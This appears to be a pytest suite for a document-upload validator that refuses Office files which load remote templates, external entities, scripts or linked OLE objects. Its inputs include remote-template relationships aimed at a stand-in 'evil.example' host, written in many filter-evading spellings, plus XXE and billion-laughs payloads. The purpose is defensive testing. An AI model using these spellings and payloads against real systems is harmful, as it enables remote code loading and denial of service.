"""Files of Office that load parts from elsewhere are refused however XML, or the archive, spells it."""

import io
import time
from itertools import cycle, product

import pytest
from django.core.exceptions import ValidationError

from documents.files import xml_parser
from documents.files.validation import validate_content
from tests.documents.files.hostile_files import EXTERNAL
from tests.documents.sample_files import RELATIONS, compound, doc, ole_link, ooxml
from tests.faults.sizes import FULL

TEMPLATE = EXTERNAL.format("attachedTemplate", "http://evil.example/a.dotm")
HEAD = '<?xml version="1.0"?>'


def code(content: bytes, kind: str) -> str:
    """The reason for which a file is refused; empty where it comes in."""
    try:
        validate_content(io.BytesIO(content), kind)
    except ValidationError as error:
        return str(error.code)
    return ""


def with_relations(written: str | bytes, kind: str = "docx", name: str = "_rels/x.xml.rels") -> bytes:
    folder = {"docx": "word/", "pptx": "ppt/", "xlsx": "xl/"}[kind]
    return ooxml(kind, {folder + name: written})


def relations(inner: str) -> str:
    return RELATIONS.format(more=inner)


PREFIXED = (
    f'{HEAD}<r:Relationships xmlns:r="http://schemas.openxmlformats.org/package/2006/relationships">'
    f"{TEMPLATE.replace('<Relationship', '<r:Relationship')}</r:Relationships>"
)
SPELLINGS: dict[str, str | bytes] = {
    "plain": relations(TEMPLATE),
    "a prefix": PREFIXED,
    "a prefix on attributes": relations(TEMPLATE.replace("TargetMode", 'xmlns:a="a" a:TargetMode')),
    "character references in the mode": relations(TEMPLATE.replace("External", "Extern&#97;l")),
    "hexadecimal references in the mode": relations(TEMPLATE.replace("External", "&#x45;xternal")),
    "character references in the type": relations(TEMPLATE.replace("attachedT", "attached&#84;")),
    "a > in an attribute before": relations(TEMPLATE.replace('Id="r1"', 'Id="r>1"')),
    "a > in the address": relations(TEMPLATE.replace("/a.dotm", "/a>.dotm")),
    "single quotes": relations(TEMPLATE.replace('"', "'")),
    "spaces around =": relations(TEMPLATE.replace("=", " = ")),
    "line breaks between attributes": relations(TEMPLATE.replace(" ", "\r\n\t")),
    "a comment with a relationship's end": relations(f"<!-- <Relationship /> -->{TEMPLATE}"),
    "small letters of the mode": relations(TEMPLATE.replace("External", "external")),
    "an element of its own end tag": relations(TEMPLATE.replace("/>", "></Relationship>")),
    "nested in another element": relations(f"<a><b>{TEMPLATE}</b></a>"),
    "UTF-16 with its mark": relations(TEMPLATE).encode("utf-16"),
    "UTF-16 little-endian": relations(TEMPLATE).encode("utf-16-le"),
    "UTF-16 big-endian": relations(TEMPLATE).encode("utf-16-be"),
    "UTF-16 as it is declared": relations(TEMPLATE)
    .replace(HEAD, '<?xml version="1.0" encoding="UTF-16"?>')
    .encode("utf-16"),
    "UTF-8 with its mark": relations(TEMPLATE).encode("utf-8-sig"),
    "an address without a mode": relations(TEMPLATE.replace(' TargetMode="External"', "")),
    "a share without a mode": relations(TEMPLATE.replace(' TargetMode="External"', "").replace("http:", "")),
    "a base for all addresses": relations("").replace(
        "<Relationships", '<Relationships xml:base="http://e/"'
    ),
    "a kind that nobody knows": relations(EXTERNAL.format("whatever", "http://evil.example/")),
}


#: Each spelling in both kinds with FAULTS=full, else in one of them, in turn.
IN_KINDS = list(product(SPELLINGS, ["docx", "pptx"]) if FULL else zip(SPELLINGS, cycle(["docx", "pptx"])))


@pytest.mark.faults
@pytest.mark.parametrize(("spelling", "kind"), IN_KINDS)
def test_a_template_from_elsewhere_is_refused_in_every_spelling(spelling: str, kind: str) -> None:
    assert code(with_relations(SPELLINGS[spelling], kind), kind) == "outside"


@pytest.mark.parametrize(
    "of", ["attachedTemplate", "oleObject", "frame", "subDocument", "externalLinkPath", "package", "control"]
)
def test_every_kind_that_is_loaded_is_refused_in_character_references(of: str) -> None:
    spelled = "".join(f"&#{ord(letter)};" for letter in of)
    assert (
        code(with_relations(relations(EXTERNAL.format(spelled, "file://server/share"))), "docx") == "outside"
    )


@pytest.mark.parametrize(
    "name", ["_rels/x.xml.rels", "_RELS/X.XML.RELS", "_rels/x.xml.r%65ls", "%5Frels/x.xml.rels"]
)
def test_relations_are_found_however_their_part_is_named(name: str) -> None:
    assert code(with_relations(relations(TEMPLATE), name=name), "docx") == "outside"


def test_relations_of_a_table_within_a_presentation_are_read_too() -> None:
    table = with_relations(PREFIXED, "xlsx")
    assert code(ooxml("pptx", {"ppt/embeddings/Sheet1.xlsx": table}), "pptx") == "outside"


@pytest.mark.parametrize("encoding", ["utf-7", "cp037", "utf-32", "gb2312", "nobodys"])
def test_an_encoding_that_office_does_not_use_is_refused(encoding: str) -> None:
    declared = f'<?xml version="1.0" encoding="{encoding}"?>'
    try:
        content = relations(TEMPLATE).replace(HEAD, declared).encode(encoding)
    except LookupError:
        content = relations(TEMPLATE).replace(HEAD, declared).encode()
    assert code(with_relations(content), "docx") == "damaged"


def test_relations_that_are_not_well_formed_are_refused() -> None:
    assert code(with_relations("<Relationships><Relationship"), "docx") == "damaged"


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16", "utf-16-be"])
@pytest.mark.parametrize("name", ["word/_rels/x.xml.rels", "word/a.xml", "word/media/a.svg", "word/a.bin"])
def test_a_document_type_is_refused_in_every_part_and_encoding(name: str, encoding: str) -> None:
    content = f'{HEAD}<!DOCTYPE a [<!ENTITY b SYSTEM "http://evil.example/">]><a>&b;</a>'.encode(encoding)
    assert code(ooxml("docx", {name: content}), "docx") == "macro"


def test_entities_that_unfold_to_billions_are_refused() -> None:
    lines = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    content = f'<!DOCTYPE a [<!ENTITY a0 "ha">{lines}]><a>&a9;</a>'
    assert code(with_relations(content), "docx") == "macro"


@pytest.mark.parametrize(
    "script", ["<script>", "<s:script xmlns:s='http://www.w3.org/2000/svg'>", "<SCRIPT>"]
)
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_a_script_in_a_drawing_is_refused_with_a_prefix_and_in_wide_signs(script: str, encoding: str) -> None:
    end = f"</{script[1:].partition(' ')[0].rstrip('>')}>"
    content = f"<svg xmlns='http://www.w3.org/2000/svg'>{script}a(){end}</svg>".encode(encoding)
    assert code(ooxml("pptx", {"ppt/media/a.svg": content}), "pptx") == "macro"


@pytest.mark.parametrize(
    "name", ["word/media/image1.png", "word/a.dat", "word/embeddings/a.emf", "word/theme/a.jpeg"]
)
def test_a_compound_file_under_another_name_is_refused(name: str) -> None:
    for content in (doc("Macros", "VBA"), compound("\x01Ole10Native"), doc()):
        assert code(ooxml("docx", {name: content}), "docx") == "nested"


@pytest.mark.parametrize("name", ["word/oleObject1.bin", "word/media/a.doc", "word/embeddings/a.bin"])
def test_a_compound_file_is_read_wherever_it_lies(name: str) -> None:
    assert code(ooxml("docx", {name: compound("\x01Ole10Native")}), "docx") == "macro"
    assert code(ooxml("docx", {name: doc()}), "docx") == ""


@pytest.mark.parametrize("kind", ["docx", "pptx"])
def test_an_old_file_under_a_new_ending_is_refused(kind: str) -> None:
    assert code(doc(), kind) == "other"


def test_a_table_with_a_paper_s_stream_within_is_no_paper() -> None:
    assert code(compound("WordDocument", "Workbook"), "doc") == "other"
    assert code(compound("PowerPoint Document", "WordDocument"), "ppt") == "other"


def test_an_object_in_an_old_file_that_lies_elsewhere_is_refused() -> None:
    assert code(ole_link(flags=1), "doc") == "outside"
    assert code(ole_link(flags=0), "doc") == ""
    assert code(ooxml("docx", {"word/embeddings/oleObject1.bin": ole_link(flags=1)}), "docx") == "outside"


def test_a_part_that_is_markup_by_its_type_is_read_as_markup() -> None:
    types = RELATIONS  # any well-formed text that no type mentions
    assert code(ooxml("docx", {"word/a.dat": types.format(more="")}), "docx") == ""
    assert code(ooxml("docx", {"word/a.dat": b"<!DOCTYPE a><a/>"}), "docx") == "macro"


def test_a_drawing_of_office_that_no_parser_takes_still_comes_in() -> None:
    drawing = "<xml><div><br></div></xml>"
    assert code(ooxml("pptx", {"ppt/drawings/vmlDrawing1.vml": drawing}), "pptx") == ""
    hostile = "<xml><br><!DOCTYPE a></xml>"
    assert code(ooxml("pptx", {"ppt/drawings/vmlDrawing1.vml": hostile}), "pptx") == "macro"


def test_what_is_followed_or_played_on_demand_may_lie_elsewhere() -> None:
    for of in ("hyperlink", "image", "video", "audio", "media"):
        link = EXTERNAL.format(of, "https://school.example/a")
        assert code(with_relations(relations(link)), "docx") == "", of
    assert (
        code(with_relations(relations(EXTERNAL.format("hyperlink", "mailto:a@school.example"))), "docx") == ""
    )


def test_a_name_in_pieces_is_refused() -> None:
    parts = {"word/_rels/x.xml.rels/[0].last.piece": relations(TEMPLATE)}
    assert code(ooxml("docx", parts), "docx") == "two"


def test_two_large_parts_of_relations_are_read_at_once() -> None:
    """A docx of 4.6 KB took 100 seconds, and with it the whole web process."""
    content = ooxml("docx", {f"word/_rels/{n}.rels": "<Relationship " * 70_000 for n in range(2)})
    assert len(content) < 10_000
    assert code(content, "docx") == "damaged"


def test_a_start_tag_of_16_mb_is_not_read_again_with_each_piece() -> None:
    """The parser alone, fed in pieces of 64 kB, would look at 2 GB, 125 times as much as at a text."""
    megabytes = [b"x" * 65_536] * 250
    text, tag = [b"<a>", *megabytes, b"</a>"], [b"<a b='", *megabytes, b"'/>"]
    assert least_seconds(tag) < 40 * least_seconds(text)


def least_seconds(pieces: list[bytes]) -> float:
    """Seconds of the processor that parsing takes: the least of three, for other processes disturb it."""

    def once() -> float:
        began = time.process_time()
        xml_parser.parse_xml(pieces, lambda tag, told: None)
        return time.process_time() - began

    return min(once() for _try in range(3))
